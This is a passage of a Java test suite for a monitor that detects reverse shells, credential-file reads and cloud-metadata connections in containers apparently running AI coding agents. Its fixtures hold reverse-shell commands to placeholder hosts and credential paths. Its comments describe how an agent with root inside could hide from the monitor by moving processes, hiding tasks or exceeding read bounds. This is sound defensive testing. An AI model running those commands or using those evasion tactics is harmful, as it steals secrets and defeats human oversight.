                "/home/code/.ssh/id_rsa", ".ssh", ".aws/credentials", "/h/.config/gh/hosts.yml", "/h/.config/ghx", "/h/.docker/config.json", ".netrc", "@TOOL", "@TOOL",
                "EXEC:sh", "system:id", "exec:\nx", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "/dev/udp/x/1", "/dev/tcp", "claude", "/opt/codex",
                "token\r", "key\u2028", "key\u0085", "\u00e9key", "tok\u00e9n", "x\"y\\z", "\u0001\u001f", "\uD83D\uDE00", "", "node", "sh"};
        String[] targets = {"pipe:[1]", "/dev/null", "/dev/pts/0", "/proc/1/environ", "/proc/self/environ", "/home/code/.ssh/id_ed25519",
                "@TOOL", "@TOOL", "/h/.aws/config", "anon_inode:[eventfd]",
                "/workspace/a b", "/h/.sshx"};
        String[] addresses4 = {"10.0.0.2", "198.51.100.10", "127.0.0.1", "0.0.0.0", "169.254.169.254", "203.0.113.9"};
        String[] addresses6 = {"fd42::5", "2001:db8::10", "::1", "::", "fd00:ec2::254", "::ffff:198.51.100.10", "::ffff:127.0.0.1", "1:0:0:2:0:0:0:3",
                "0:0:1:0:0:1:0:0", "::ffff:169.254.169.254", "fe80::1:2:3:4"};
        int[] ports = {0, 22, 80, 443, 4444, 5555, 1337, 31337, 8080, 40000};
        String[] states = {"01", "02", "06", "0A", "08", "0B", "07"};
        byte[][] odd = {{(byte) 0xff}, {(byte) 0xc3}, {(byte) 0xe2, (byte) 0x82}, {(byte) 0xed, (byte) 0xa0, (byte) 0x80}, {(byte) 0xf0, (byte) 0x9f, (byte) 0x98},
                {(byte) 0xc2, (byte) 0x85}, {(byte) 0xf4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {'\n'}, {'k', 'e', 'y', (byte) 0xfe}};
        int threats = 0, bare = 0, tabled = 0;
        long fromThreads = 0;
        for (int seed = 1; seed <= 60; seed++) {
            java.util.Random r = new java.util.Random(seed), threads = new java.util.Random(-seed);
            proc = root.resolve(seed + "/proc");
            cgroups = root.resolve(seed + "/cgroup");
            String name = "coi-r" + seed;
            int n = 1 + r.nextInt(20);
            List<Integer> pids = new ArrayList<>();
            for (int i = 0; i < n; i++) pids.add(100 + i);
            Map<String, List<Integer>> subgroups = new java.util.LinkedHashMap<>();
            subgroups.put("init.scope", List.of(pids.getFirst()));
            subgroups.put("user.slice", pids.subList(1, n / 2 + 1));
            subgroups.put("user.slice/s.scope", pids.subList(n / 2, n));
            cgroup(List.of("", "pids/", "unified/").get(r.nextInt(3)), name, r.nextInt(4) == 0 ? List.of(999) : List.of(), subgroups);
            List<Long> inodes = new ArrayList<>();
            for (int i = 0; i < 12; i++) inodes.add(5000L + r.nextInt(20));
            // one tool's files per process: with two, Java names the one its Map.of happens to iterate first (see below)
            String[] tools = {"/home/code/.claude/.credentials.json", "/home/code/.codex/auth.json", "/s/opencode/auth.json", "opencode/auth.json"};
            for (int pid : pids) {
                String tool = tools[r.nextInt(tools.length)];
                String exe = exes[r.nextInt(exes.length)];
                List<byte[]> args = new ArrayList<>();
                int nargs = r.nextInt(6);
                for (int a = 0; a < nargs; a++) {
                    if (r.nextInt(6) == 0) {
                        ByteArrayOutputStream arg = new ByteArrayOutputStream();
                        arg.write(b(tokens[r.nextInt(tokens.length)].replace("@TOOL", tool)));
                        arg.write(odd[r.nextInt(odd.length)]);
                        if (r.nextBoolean()) arg.write(b(tokens[r.nextInt(tokens.length)].replace("@TOOL", tool)));
                        args.add(arg.toByteArray());
                    } else {
                        args.add(b(tokens[r.nextInt(tokens.length)].replace("@TOOL", tool)));
                    }
                }
                if (!args.isEmpty() && r.nextInt(3) > 0 && exe != null) args.set(0, b(exe.substring(exe.lastIndexOf('/') + 1)));
                processBytes(pid, exe, args, null);
                int nfds = r.nextInt(5);
                for (int k = 0; k < nfds; k++) {
                    int fd = r.nextInt(3) == 0 ? 3 + r.nextInt(5) : r.nextInt(3);
                    Path link = proc.resolve(pid + "/fd/" + fd);
                    if (Files.exists(link, java.nio.file.LinkOption.NOFOLLOW_LINKS)) continue;
                    if (r.nextBoolean()) fd(pid, fd, "socket:[" + inodes.get(r.nextInt(inodes.size())) + "]");
                    else if (r.nextInt(8) == 0) rawLink(link, new byte[] {'/', 'q', (byte) 0xff, '/', '.', 's', 's', 'h'});
                    else fd(pid, fd, targets[r.nextInt(targets.length)].replace("@TOOL", tool));
                }
                // threads (their own draws, so that the rest stays as it was): sharing the process's table, one of their
                // own, sharing a thread's, or an empty one
                if (threads.nextInt(4) == 0) {
                    int k = 2 + threads.nextInt(4);
                    Path stat = proc.resolve(pid + "/stat");
                    Files.writeString(stat, Files.readString(stat).replace("\n", " 0 0 0 0 0 0 0 0 0 20 0 " + k + " 0 0\n"));
                    List<Integer> own = new ArrayList<>();
                    for (int j = 1; j < k; j++) {
                        int tid = 1000 + pid * 10 + j;
                        Path task = proc.resolve(pid + "/task/" + tid);
                        Files.createDirectories(task);
                        Files.createSymbolicLink(task.resolve("cwd"), Path.of("/tmp"));
                        int how = threads.nextInt(4);
                        if (how == 0) {
                            Files.createSymbolicLink(task.resolve("fd"), Path.of("../../fd"));
                        } else if (how == 2 && !own.isEmpty()) {
                            Files.createSymbolicLink(task.resolve("fd"), Path.of("../" + own.get(threads.nextInt(own.size())) + "/fd"));
                        } else {
                            Files.createDirectories(task.resolve("fd"));
                            own.add(tid);
                            for (int fd = 0, m = how == 3 ? 0 : 1 + threads.nextInt(3); fd < m; fd++) {
                                Path link = task.resolve("fd/" + (threads.nextBoolean() ? fd : 3 + threads.nextInt(5)));
                                if (Files.exists(link, java.nio.file.LinkOption.NOFOLLOW_LINKS)) continue;
                                Files.createSymbolicLink(link, Path.of(threads.nextBoolean() ? "socket:[" + inodes.get(threads.nextInt(inodes.size())) + "]"
                                        : targets[threads.nextInt(targets.length)].replace("@TOOL", tool)));
                            }
                        }
                    }
                    tabled++;
                }
                switch (r.nextInt(25)) {
                    case 0 -> Files.delete(proc.resolve(pid + "/io"));
                    case 1 -> deleteTree(proc.resolve(Integer.toString(pid)));
                    case 2 -> Files.writeString(proc.resolve(pid + "/status"), "Name:\tx\nUid:\t5\t5\t5\t5\n");
                    case 3 -> Files.writeString(proc.resolve(pid + "/cgroup"), "0::/lxc.payload." + name + "/user.slice\n");
                    default -> {}
                }
            }
            for (String table : List.of("tcp", "tcp6", "udp", "udp6")) {
                int rows = r.nextInt(6);
                List<String> lines = new ArrayList<>();
                for (int i = 0; i < rows; i++) {
                    boolean six = table.endsWith("6");
                    String local = six ? v6(addresses6[r.nextInt(addresses6.length)], ports[r.nextInt(ports.length)])
                            : v4(addresses4[r.nextInt(addresses4.length)], ports[r.nextInt(ports.length)]);
                    String remote = six ? v6(addresses6[r.nextInt(addresses6.length)], ports[r.nextInt(ports.length)])
                            : v4(addresses4[r.nextInt(addresses4.length)], ports[r.nextInt(ports.length)]);
                    String state = states[r.nextInt(states.length)];
                    long inode = inodes.get(r.nextInt(inodes.size()));
                    lines.add(table.startsWith("tcp") ? tcp(local, remote, state, inode) : udp(local, remote, state, inode));
                }
                if (Files.isDirectory(proc.resolve(pids.getFirst() + "/net"))) net(pids.getFirst(), table, lines.toArray(String[]::new));
            }
            List<Integer> execs = new ArrayList<>();
            for (int i = 0; i < 3; i++) execs.add(100 + r.nextInt(n + 2));
            List<Integer> suspicious = r.nextInt(5) == 0 ? List.of() : List.of(4444, 5555, 1337, 31337);
            int threshold = r.nextInt(6) == 0 ? n - 1 : 200;
            if (threshold < n) bare++;
            Found found = compare(execs, new Target(name, "lxc.payload." + name, threshold, suspicious));
            threats += found.threats().size();
            fromThreads += found.threats().stream().filter(t -> t.evidence().process() != null && t.evidence().process().pid() >= 1000).count();
        }
        assertThat(threats).as("the random containers raised threats to compare").isGreaterThan(100);
        assertThat(bare).isPositive();
        assertThat(tabled).as("processes with threads").isGreaterThan(20);
        assertThat(fromThreads).as("threats found in threads' own tables").isGreaterThan(10);
    }

    /**
     * The sockets are read through the container's init when it is known: the first listed pid may be a process the agent
     * (root inside) put in a cgroup that sorts first and in a network namespace of its own, whose tables show nothing.
     */
    @Test
    void theSocketsAreReadThroughTheContainersInitNotThroughAProcessThatSortsFirst() throws IOException {
        cgroup("", "coi-ns", List.of(7, 1, 300), Map.of());
        process(7, "/usr/bin/sleep", "sleep", "inf"); // unshare -n sleep inf, in a cgroup that lists first
        net(7, "tcp");
        process(1, "/sbin/init", "/sbin/init");
        net(1, "tcp", tcp(v4("10.0.0.2", 40000), v4(REMOTE, 4444), "01", 9400));
        process(300, "/usr/bin/bash", "bash", "-i");
        fd(300, 0, "socket:[9400]");
        Found throughInit = compare(new Target("coi-ns", "lxc.payload.coi-ns", 200, PORTS, 1));
        assertThat(throughInit.threats()).extracting(Threat::title).contains("reverse shell: bash with its stdin on a connection to " + REMOTE + ":4444");
        Found throughFirst = compare(new Target("coi-ns"));
        assertThat(throughFirst.threats()).as("without the init: the first pid's empty namespace, as before").isEmpty();
    }

    /** A process with two tools' credential files is named for the first of claude, codex, opencode, by both. */
    @Test
    void aProcessWithTwoToolsCredentialFilesIsNamedForTheFirstInOrder() throws IOException {
        cgroup("", "coi-2", List.of(1, 160), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        process(160, "/usr/bin/cat", "cat", "/home/code/.codex/auth.json", "/home/code/.claude/.credentials.json");
        Found found = compare(new Target("coi-2"));
        assertThat(found.threats()).singleElement().extracting(Threat::title).isEqualTo("reading claude's credential file by cat");
    }

    // ------------------------------------------------------------------------------------------------ bounds

    /*
     * What the native look reads is bounded (memory and time); hitting a bound is never silent: the binary exits 1 with
     * one line on stderr that starts with MON_TOO_MUCH (monitor.h), and the waiter hands such a container back to the
     * Java monitor, which reads everything. Where it shows, the Java reference finds what is past the bound.
     */
    private static final String TOO_MUCH = "too much to watch natively: ";

    @Test
    void moreSocketsThanTheLookReadsIsTooMuchNotASilentCut() throws IOException {
        cgroup("", "coi-s", List.of(1, 200), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        process(200, "/usr/bin/curl", "curl", "x");
        fd(200, 3, "socket:[70000]");
        String[] rows = new String[65537];
        for (int i = 0; i < 65536; i++) rows[i] = tcp(v4("10.0.0.2", 1 + i % 60000), v4("203.0.113.9", 443), "06", 0);
        rows[65536] = tcp(v4("10.0.0.2", 40000), v4("169.254.169.254", 80), "01", 70000); // past the bound
        net(1, "tcp", rows);
        assertThat(javaTitles(new Target("coi-s"))).containsExactly("connection to the cloud metadata address 169.254.169.254");
        assertThat(tooMuch(new Target("coi-s"))).contains("the container has more than 65536 sockets");
        // 65536 rows are read whole
        net(1, "tcp", Arrays.copyOf(rows, 65535));
        net(1, "udp", tcp(v4("10.0.0.2", 40000), v4("169.254.169.254", 80), "01", 70000));
        assertThat(compare(new Target("coi-s")).threats()).extracting(Threat::title).containsExactly("connection to the cloud metadata address 169.254.169.254");
    }

    @Test
    void aSocketTableOverSixteenMebibytesIsTooMuch() throws IOException {
        cgroup("", "coi-st", List.of(1), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        write(proc.resolve("1/net/tcp"), "  sl  local_address\n" + " ".repeat(16 * 1024 * 1024));
        assertThat(tooMuch(new Target("coi-st"))).contains("a socket table of the container is over 16777216 bytes: ").contains("1/net/tcp");
    }

    @Test
    void moreDescriptorsThanTheLookReadsIsTooMuch() throws IOException {
        List<Integer> pids = new ArrayList<>();
        for (int i = 0; i < 9; i++) pids.add(210 + i);
        cgroup("", "coi-d", pids, Map.of());
        for (int pid : pids) {
            process(pid, "/usr/bin/sleep", "sleep", "1");
            // 9 x 14564 = 131076 descriptors, 4 more than LOOK_FDS (131072); the last one names a credential file
            Path fds = proc.resolve(pid + "/fd");
            for (int fd = 0; fd < 14564; fd++) Files.createSymbolicLink(fds.resolve(Integer.toString(fd)), Path.of("null"));
        }
        Files.delete(proc.resolve("218/fd/14563"));
        fd(218, 14563, "/home/code/.ssh/id_rsa");
        assertThat(javaTitles(new Target("coi-d"))).containsExactly("reading credential files by sleep");
        assertThat(tooMuch(new Target("coi-d"))).contains("more than 131072 descriptors");
    }

    @Test
    void aCommandLineOverTheBoundIsTooMuchAndWithinItIsReadWhole() throws IOException {
        cgroup("", "coi-cl", List.of(1, 220), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        // 256 KiB of arguments and then /dev/tcp: the detectors must see the last one
        String pad = "a".repeat(128 * 1024 - 1);
        process(220, "/usr/bin/bash", "bash", pad, pad, "x >/dev/tcp/1.2.3.4/80");
        assertThat(javaTitles(new Target("coi-cl"))).containsExactly("reverse shell: bash redirecting to /dev/tcp or /dev/udp");
        assertThat(tooMuch(new Target("coi-cl"))).contains("the command line of pid 220 is over 262144 bytes");
        // 256 KiB exactly: read whole, its /dev/tcp seen at the end
        String last = "x >/dev/tcp/1.2.3.4/80";
        deleteTree(proc.resolve("220"));
        process(220, "/usr/bin/bash", "bash", pad, "a".repeat(128 * 1024 - 6 - last.length() - 1), last);
        assertThat(Files.size(proc.resolve("220/cmdline"))).isEqualTo(256 * 1024);
        Run run = runLook(List.of(), new Target("coi-cl"));
        assertThat(run.err()).isEmpty();
        assertThat(run.out()).contains("reverse shell: bash redirecting to /dev/tcp or /dev/udp");
    }

    @Test
    void commandLinesOverSixteenMebibytesInOneLookAreTooMuch() throws IOException {
        List<Integer> pids = new ArrayList<>();
        for (int i = 0; i < 65; i++) pids.add(300 + i);
        cgroup("", "coi-cs", pids, Map.of());
        String pad = "b".repeat(128 * 1024 - 1);
        for (int pid : pids) process(pid, "/usr/bin/true", "true", pad, pad.substring(6)); // 65 x 256 KiB
        assertThat(tooMuch(new Target("coi-cs"))).contains("command lines of the container are over 16777216 bytes");
    }

    @Test
    void anExecReadOverItsBoundsFailsTheDetectorsOfItsLook() throws IOException {
        cgroup("", "coi-x", List.of(1), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        String pad = "c".repeat(128 * 1024 - 1);
        process(230, "/usr/bin/bash", "bash", pad, pad, "x >/dev/tcp/1.2.3.4/80"); // ended before the look
        Files.writeString(proc.resolve("230/cgroup"), "0::/lxc.payload.coi-x\n");
        assertThat(tooMuch(List.of(230), new Target("coi-x"))).contains("the command line of pid 230 is over 262144 bytes");
        // the descriptors of a process read alone at its exec: 1024 at most
        deleteTree(proc.resolve("230"));
        process(230, "/usr/bin/cat", "cat");
        Files.writeString(proc.resolve("230/cgroup"), "0::/lxc.payload.coi-x\n");
        for (int fd = 0; fd < 1025; fd++) fd(230, fd, "/dev/null");
        assertThat(tooMuch(List.of(230), new Target("coi-x"))).contains("pid 230 has more than 1024 descriptors at its exec");
        // one the look lists itself is not added again (Snapshot.withExecs), so its exec read does not count
        Files.writeString(cgroups.resolve("lxc.payload.coi-x/cgroup.procs"), "1\n230\n");
        compare(List.of(230), new Target("coi-x"));
    }

    @Test
    void moreThreatsThanOneLookHandsOverAreTooMuch() throws IOException {
        List<Integer> pids = new ArrayList<>();
        for (int i = 0; i < 65; i++) pids.add(400 + i);
        cgroup("", "coi-many", pids, Map.of());
        for (int pid : pids) process(pid, "/usr/bin/bash", "bash", "-c", "x >/dev/tcp/1.2.3.4/" + pid);
        assertThat(javaTitles(new Target("coi-many"))).hasSize(65);
        assertThat(tooMuch(new Target("coi-many"))).contains("more than 64 threats");
        // 64 are all handed over
        Files.writeString(cgroups.resolve("lxc.payload.coi-many/cgroup.procs"), lines(pids.subList(0, 64)));
        assertThat(compare(new Target("coi-many")).threats()).hasSize(64);
    }

    @Test
    void aUidMapOrAStatusOverItsBoundIsTooMuch() throws IOException {
        cgroup("", "coi-um", List.of(1, 240), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        process(240, "/usr/bin/bash", "bash", "-c", ">/dev/tcp/a/1");
        StringBuilder map = new StringBuilder();
        for (int i = 0; i < 341; i++) map.append(i * 10).append(' ').append(2000000 + i * 10).append(" 10\n");
        Files.writeString(proc.resolve("1/uid_map"), map);
        assertThat(tooMuch(new Target("coi-um"))).contains("the uid_map of pid 1 has more than 340 ranges");
        Files.writeString(proc.resolve("1/uid_map"), map.substring(0, map.indexOf("3400 ")));
        compare(new Target("coi-um"));
        // a status with 65536 supplementary groups (16 KiB and more): read whole or not at all
        Files.writeString(proc.resolve("240/status"), "Name:\tbash\nGroups:\t" + "1234567 ".repeat(2100) + "\nUid:\t2000005\t1\t1\t1\n");
        assertThat(tooMuch(new Target("coi-um"))).contains("the status of pid 240 is over 16384 bytes");
    }

    @Test
    void moreProcessesPidsOrCgroupsThanTheLookWalksAreTooMuch() throws IOException {
        // more to read one by one than LOOK_PROCS (count_threshold above it)
        List<Integer> pids = new ArrayList<>();
        for (int i = 0; i < 2049; i++) pids.add(1000 + i);
        cgroup("", "coi-p", pids, Map.of());
        assertThat(tooMuch(new Target("coi-p", "lxc.payload.coi-p", 5000, PORTS))).contains("2049 processes to read one by one, more than 2048");
        // more pids than LOOK_PIDS, even for a bare look
        StringBuilder many = new StringBuilder();
        for (int i = 1; i <= 1024 * 1024 + 1; i++) many.append(i).append('\n');
        Files.writeString(cgroups.resolve("lxc.payload.coi-p/cgroup.procs"), many);
        assertThat(tooMuch(new Target("coi-p"))).contains("list more than 1048576 processes");
        // a cgroup.procs over 16 MiB
        Files.writeString(cgroups.resolve("lxc.payload.coi-p/cgroup.procs"), "1\n" + "\n".repeat(16 * 1024 * 1024));
        assertThat(tooMuch(new Target("coi-p"))).contains("a cgroup.procs of coi-p is over 16777216 bytes: ");
        // more cgroups than LOOK_CGROUPS
        Files.writeString(cgroups.resolve("lxc.payload.coi-p/cgroup.procs"), "1\n");
        process(1, "/sbin/init", "/sbin/init");
        for (int i = 0; i < 4097; i++) write(cgroups.resolve("lxc.payload.coi-p/s" + i + "/cgroup.procs"), "");
        assertThat(tooMuch(new Target("coi-p"))).contains("has more than 4096 cgroups");
    }

    /** A subgroup whose cgroup.procs has no path (PATH_MAX): Java cannot read it (a process there is hidden from it too). */
    /**
     * A subgroup that cannot be read for another reason than its going away (its cgroup.procs a folder here: EISDIR;
     * for a supervisor that is not root, root inside can chmod it): the native look hands the container back, and
     * HostView's walk reports it, for the supervisor's guard to raise; neither skips it as gone.
     */
    @Test
    void aSubgroupThatCannotBeReadIsTooMuchNotSkipped() throws IOException {
        cgroup("", "coi-ur", List.of(1), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        Files.createDirectories(cgroups.resolve("lxc.payload.coi-ur/hidden/cgroup.procs"));
        assertThat(tooMuch(new Target("coi-ur"))).contains("a cgroup of coi-ur cannot be read (Is a directory)");
        assertThat(new HostView(proc, cgroups).tree(cgroups.resolve("lxc.payload.coi-ur")).beyond()).startsWith("hidden (");
    }

    /**
     * Processes moved out of the walk's way (root inside sees the host read each cgroup.procs and moves them into one
     * read already): pids.current counts their tasks, the walk falls short, and both looks find them by scanning /proc
     * for the ones whose cgroup line (v1 pids, comounted or not; a v1 zombie in "/" by its v2 line; v2 "0::") is under
     * the container's, added in pid order; another container's whose name only starts the same, and the host's, not.
     */
    @Test
    void processesMovedOutOfTheWalksWayAreFoundByScanningProcInPidOrder() throws IOException {
        for (String layout : List.of("pids/", "")) {
            String name = layout.isEmpty() ? "coi-mv2" : "coi-mv1";
            Path top = cgroups.resolve(layout + "lxc.payload." + name);
            cgroup(layout, name, List.of(), Map.of("init.scope", List.of(1), "user.slice", List.of()));
            write(top.resolve("pids.current"), layout.isEmpty() ? "4\n" : "6\n");
        }
        process(1, "/sbin/init", "/sbin/init");
        Files.writeString(proc.resolve("1/cgroup"), "8:pids:/lxc.payload.coi-mv1/init.scope\n0::/lxc.payload.coi-mv2/init.scope\n");
        process(330, "/usr/bin/bash", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.10/1");
        Files.writeString(proc.resolve("330/cgroup"), "9:cpu,pids:/lxc.payload.coi-mv1/user.slice\n0::/lxc.payload.coi-mv2/user.slice/x\n");
        stat(330, "bash", "S", 3);
        process(320, "/usr/bin/bash", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.10/2");
        Files.writeString(proc.resolve("320/cgroup"), "8:pids:/\n0::/lxc.payload.coi-mv1/user.slice\n0::/lxc.payload.coi-mv2\n");
        stat(320, "bash", "Z", 2);
        process(310, "/usr/bin/bash", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.10/3"); // another container's
        Files.writeString(proc.resolve("310/cgroup"), "8:pids:/lxc.payload.coi-mv10\n0::/lxc.payload.coi-mv20\n");
        process(300, "/usr/bin/bash", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.10/4"); // the host's
        Files.writeString(proc.resolve("300/cgroup"), "8:pids:/user.slice\n0::/user.slice\n");
        Found found = compare(new Target("coi-mv1"), new Target("coi-mv2"));
        assertThat(found.threats()).extracting(t -> t.evidence().process().pid()).containsExactly(320, 330, 330);
        assertThat(new HostView(proc, cgroups).tree(cgroups.resolve("pids/lxc.payload.coi-mv1")).beyond()).isNull();
    }

    /**
     * Tasks pids.current counts that neither two walks nor the scan find: HostView counts them as unaccounted for (its
     * guard raises them when that lasts) and so does the native look (its watch hands the container back when that
     * lasts; one look at them, `--look`, is too much at once). An empty walk of such a container is no container
     * stopping either; a pids.current that cannot be read is too much (the native look hands such a container back
     * at once, HostView leaves the count not known, which its guard raises when it lasts); none (a hierarchy without the pids
     * controller) is nothing to count against.
     */
    @Test
    void tasksNoWalkNorScanFindsAreTooMuch() throws IOException {
        cgroup("pids/", "coi-hid", List.of(1), Map.of("user.slice", List.of()));
        Path top = cgroups.resolve("pids/lxc.payload.coi-hid");
        write(top.resolve("pids.current"), "3\n");
        process(1, "/sbin/init", "/sbin/init");
        Files.writeString(proc.resolve("1/cgroup"), "8:pids:/lxc.payload.coi-hid\n");
        assertThat(tooMuch(new Target("coi-hid"))).isEqualTo(TOO_MUCH + "coi-hid hides tasks from its cgroup walk: pids.current counts 2 more than"
                + " walking twice and scanning /proc found\n");
        assertThat(new HostView(proc, cgroups).tree(top)).isEqualTo(new HostView.Tree(List.of(1), null, 2));
        write(top.resolve("cgroup.procs"), "");
        Files.writeString(proc.resolve("1/cgroup"), "8:pids:/elsewhere\n");
        assertThat(tooMuch(new Target("coi-hid"))).contains("coi-hid hides every task from its cgroup walk: pids.current counts 3,");
        assertThat(new HostView(proc, cgroups).tree("coi-hid", top)).isEqualTo(new HostView.Tree(List.of(), null, 3));
        Files.delete(top.resolve("pids.current"));
        Files.createDirectories(top.resolve("pids.current"));
        assertThat(tooMuch(new Target("coi-hid"))).contains("the pids.current of coi-hid cannot be read");
        assertThat(new HostView(proc, cgroups).tree(top).unaccounted()).isEqualTo(HostView.NOT_KNOWN);
        Files.delete(top.resolve("pids.current"));
        write(top.resolve("cgroup.procs"), "1\n");
        compare(new Target("coi-hid"));
    }

    /**
     * A process whose main thread ended while another runs: its leader is a zombie whose /proc/PID shows an empty
     * command line, no exe, cwd or descriptors. Both looks read those from its first live thread (lowest tid, not
     * the leader, its state not Z or X); with none, from the leader.
     */
    @Test
    void aLeaderThatEndedBeforeItsThreadsIsReadThroughItsFirstLiveThread() throws IOException {
        cgroup("", "coi-z", List.of(1, 340, 341), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        net(1, "tcp", tcp(v4("10.0.0.2", 40000), v4(REMOTE, 4444), "01", 9500));
        for (int pid : List.of(340, 341)) {
            process(pid, null);
            stat(pid, "x", "Z", 4);
            write(proc.resolve(pid + "/task/" + pid + "/stat"), pid + " (x) Z 1\n");
            write(proc.resolve(pid + "/task/" + (pid + 100) + "/stat"), (pid + 100) + " (x) X 1\n");
            write(proc.resolve(pid + "/task/" + (pid + 300) + "/stat"), (pid + 300) + " (x) S 1\n");
            Path thread = proc.resolve(pid + "/task/" + (pid + 200));
            write(thread.resolve("stat"), (pid + 200) + " (x) S 1\n");
            Files.write(thread.resolve("cmdline"), b("python3\0-c\0import pty\0"));
            Files.createSymbolicLink(thread.resolve("exe"), Path.of("/usr/bin/python3.11"));
            Files.createSymbolicLink(thread.resolve("cwd"), Path.of("/tmp"));
            Files.createDirectories(thread.resolve("fd"));
            Files.createSymbolicLink(thread.resolve("fd/1"), Path.of("socket:[9500]"));
            Files.createSymbolicLink(thread.resolve("fd/3"), Path.of("/home/code/.ssh/id_ed25519"));
        }
        // no live thread: read from the leader (nothing to tell by)
        Files.delete(proc.resolve("341/task/541/stat"));
        Files.delete(proc.resolve("341/task/641/stat"));
        Found found = compare(new Target("coi-z"));
        assertThat(found.threats()).extracting(Threat::title).contains("reverse shell: python3.11 with its stdout on a connection to " + REMOTE + ":4444");
        // 341, read from its leader: its thread 541's descriptors are a table other than the leader's, read as an entry of its own
        assertThat(found.threats()).extracting(t -> t.evidence().process().pid()).containsExactly(340, 340, 340, 541);
        assertThat(found.threats().getFirst().evidence().process().cmdline()).containsExactly("python3", "-c", "import pty");
    }

    /**
     * HostView.tables: a thread that unshared its descriptor table is read as an entry of its own (its tid, its process
     * as parent), once per table, from its first thread; threads sharing the process's table or a listed one, a table
     * with nothing in it, and the threads of a process of one task add nothing. The process's own environ is the
     * thread's entry's own too (its pid is the tid, its tgid the process's), on both sides.
     */
    @Test
    void threadsWithDescriptorTablesOfTheirOwnAreReadAsEntriesOfTheirOwn() throws IOException {
        cgroup("", "coi-t", List.of(1, 350, 360), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        net(1, "tcp", tcp(v4("10.0.0.2", 40000), v4(REMOTE, 4444), "01", 9600), tcp(v4("10.0.0.2", 40001), v4(REMOTE, 4444), "01", 9601));
        process(350, "/usr/bin/python3.11", "python3", "-c", "x", "/proc/350/environ");
        stat(350, "python3", "S", 5);
        fd(350, 1, "pipe:[5]");
        Path task = proc.resolve("350/task");
        Files.createDirectories(task);
        Files.createSymbolicLink(task.resolve("350"), Path.of(".."));
        for (int tid : List.of(351, 352, 353, 354)) {
            Files.createDirectories(task.resolve(tid + ""));
            Files.copy(proc.resolve("350/cmdline"), task.resolve(tid + "/cmdline"));
            Files.createSymbolicLink(task.resolve(tid + "/cwd"), Path.of("/tmp"));
        }
        Files.createSymbolicLink(task.resolve("351/fd"), Path.of("../../fd"));
        Files.createDirectories(task.resolve("352/fd"));
        Files.createSymbolicLink(task.resolve("352/fd/0"), Path.of("socket:[9600]"));
        Files.createSymbolicLink(task.resolve("352/fd/7"), Path.of("/home/code/.aws/credentials"));
        Files.createSymbolicLink(task.resolve("353/fd"), Path.of("../352/fd"));
        Files.createDirectories(task.resolve("354/fd"));
        // one task: its task folder is not looked at
        process(360, "/usr/bin/bash", "bash");
        Files.createDirectories(proc.resolve("360/task/361/fd"));
        Files.createSymbolicLink(proc.resolve("360/task/361/fd/0"), Path.of("socket:[9601]"));

        Found found = compare(new Target("coi-t"));
        assertThat(found.threats()).extracting(Threat::title).containsExactly(
                "reverse shell: python3.11 with its stdin on a connection to " + REMOTE + ":4444", "connection to suspicious port 4444 of " + REMOTE,
                "connection to suspicious port 4444 of " + REMOTE, "reading credential files by python3.11");
        assertThat(found.threats().getFirst().evidence().process()).satisfies(p -> {
            assertThat(p.pid()).isEqualTo(352);
            assertThat(p.ppid()).isEqualTo(350);
            assertThat(p.cmdline()).containsExactly("python3", "-c", "x", "/proc/350/environ");
        });
        assertThat(found.threats().getLast().evidence().process().pid()).isEqualTo(352);
    }

    /**
     * More threads with tables of their own in one process than a look reads (64): the native look is too much, Java
     * leaves the rest unread and says so (a HIGH threat), a look staying bounded whatever runs inside.
     */
    @Test
    void moreDescriptorTablesInAProcessThanTheLookComparesIsTooMuch() throws IOException {
        cgroup("", "coi-tt", List.of(1, 370), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        process(370, "/usr/bin/sleep", "sleep", "1");
        stat(370, "sleep", "S", 66);
        for (int tid = 371; tid <= 435; tid++) {
            Path thread = proc.resolve("370/task/" + tid);
            Files.createDirectories(thread.resolve("fd"));
            Files.copy(proc.resolve("370/cmdline"), thread.resolve("cmdline"));
            Files.createSymbolicLink(thread.resolve("fd/3"), Path.of(tid == 435 ? "/home/code/.ssh/id_rsa" : "/dev/null"));
        }
        HostView view = new HostView(proc, cgroups);
        Snapshot s = view.detailed("coi-tt", view.pids("coi-tt", view.cgroupOf("lxc.payload.coi-tt")));
        assertThat(s.processes()).as("the process and 64 tables of its own").hasSize(66);
        assertThat(Detectors.unreadTables(s)).singleElement().satisfies(t -> {
            assertThat(t.level()).isEqualTo(Level.HIGH);
            assertThat(t.title()).isEqualTo("descriptor tables beyond the monitor's reading");
            assertThat(t.description()).isEqualTo("pid 370 has more than 64 threads with descriptor tables of their own: what they hold is hidden"
                    + " from the monitor");
            assertThat(t.evidence().process().pid()).isEqualTo(370);
        });
        assertThat(tooMuch(new Target("coi-tt"))).contains("pid 370 has more than 64 threads with descriptor tables of their own");
        Files.delete(proc.resolve("370/task/435/fd/3"));
        Files.delete(proc.resolve("370/task/435/fd"));
        Files.createSymbolicLink(proc.resolve("370/task/435/fd"), Path.of("../371/fd"));
        assertThat(compare(new Target("coi-tt")).threats()).isEmpty();
    }

    /**
     * Detectors.unownedConnections over two looks (`--twice`: a second look at the same tree): an established TCP
     * connection to a remote peer that no process holds in both is raised, the first one only; one a process holds,
     * a listener, a loopback peer, a socket waiting in a listener's queue (inode 0), UDP and one still connecting are not.
     */
    @Test
    void aConnectionNoProcessHoldsInTwoLooksIsRaisedByBoth() throws IOException {
        cgroup("", "coi-u", List.of(1, 380), Map.of());
        process(1, "/sbin/init", "/sbin/init");
        process(380, "/usr/bin/python3.11", "python3", "serve.py");
        fd(380, 3, "socket:[9700]");
        net(1, "tcp", tcp(v4("10.0.0.2", 40000), v4(REMOTE, 443), "01", 9700), tcp(v4("10.0.0.2", 22), v4("0.0.0.0", 0), "0A", 9702),
